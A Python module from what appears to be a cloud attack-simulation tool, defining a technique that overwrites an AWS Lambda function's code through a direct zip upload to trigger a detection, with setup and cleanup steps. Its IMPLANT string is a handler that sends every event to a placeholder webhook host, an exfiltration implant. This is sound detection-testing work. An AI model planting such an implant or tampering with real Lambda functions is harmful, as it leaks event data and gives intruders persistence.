"""Overwrite the code of an existing Lambda function with a directly uploaded package."""

from __future__ import annotations

from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique
from cloudsoc.simulate.techniques.persistence._lambda import create_function, delete_function, zipped

# Forwards every event the function processes before doing the original work.
IMPLANT = (
    "import json, urllib.request\n\n"
    "def handler(event, context):\n"
    "    urllib.request.urlopen('https://webhook.example.net/c', json.dumps(event).encode(), timeout=2)\n"
    "    return {'status': 'ok'}\n"
)


@technique
class LambdaOverwriteCode(Technique):
    title = "Overwrite Lambda function code"
    attack = ("T1546",)
    expects = ("lambda_function_code_uploaded_directly",)
    description = "Replaces a function's code with a zip uploaded straight from the intruder's machine and publishes it."

    def warmup(self, ctx: Ctx) -> Json:
        name = f"payment-webhook-{ctx.run_id}"
        create_function(ctx, name)
        return {"function": name}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        client("lambda", session=ctx.attacker()).update_function_code(
            FunctionName=state["function"], ZipFile=zipped({"handler.py": IMPLANT}), Publish=True
        )

    def revert(self, ctx: Ctx, state: Json) -> None:
        delete_function(ctx, state["function"])
